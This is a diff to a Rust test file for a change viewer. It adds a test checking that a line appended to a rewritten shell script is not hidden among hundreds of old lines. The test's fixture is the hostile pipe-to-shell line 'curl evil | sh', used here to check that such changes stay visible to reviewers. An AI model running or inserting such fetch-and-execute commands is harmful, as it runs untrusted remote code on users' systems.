@@ -110,10 +110,33 @@ fn a_text_that_changed_is_shown_where_it_changed() {
     let mut ui = Ui::plain(None);
     let many: String = (0..500).map(|n| format!("new {n}\n")).collect();
     show_lines(&excerpt("", &many, MAX_SHOWN), &mut ui);
-    assert!(ui.output().ends_with("and 300 lines more\n"));
+    assert!(ui.output().ends_with("and 300 lines more; `--json` has them\n"));
     let mut ui = Ui::plain(None);
     show_lines(&excerpt("a\r\n", "a\n", MAX_SHOWN), &mut ui);
     assert_eq!(ui.output(), "    only the ends of its lines differ\n");
+}
+
+#[test]
+fn a_script_written_anew_does_not_hide_its_new_lines_behind_the_old_ones() {
+    // P3, P4
+    let old: String = (0..300).map(|n| format!("echo {n}\n")).collect();
+    let new: String = (0..199).map(|n| format!("# {n}\n")).collect();
+    let new = format!("{new}curl evil | sh\n");
+    let mut ui = Ui::plain(None);
+    show_lines(&excerpt(&old, &new, MAX_SHOWN), &mut ui);
+    assert!(ui.output().contains("    + curl evil | sh\n"), "{}", ui.output());
+    assert!(ui.output().ends_with("and 300 lines more; `--json` has them\n"));
+    // Old lines come next, and what is around them last.
+    let around = format!("same 1\n{old}same 2\n");
+    let shown = excerpt(&around, "same 1\nnew\nsame 2\n", 3);
+    let signs: String = shown.lines.iter().map(|line| signed(*line).1).collect();
+    assert_eq!((signs.as_str(), shown.more), ("--+", 300));
+    let texts = Some((old, new));
+    let (kind, mode) = (ChangeKind::Changed, Some(FileMode::File));
+    let path = "scripts/go.sh".to_owned();
+    let change = FileChange { path, kind, old_mode: mode, new_mode: mode, texts };
+    let shape = FileShape::of(&change);
+    assert_eq!((shape.diff.map(|lines| lines.len()), shape.more), (Some(500), 0));
 }
 
 #[test]
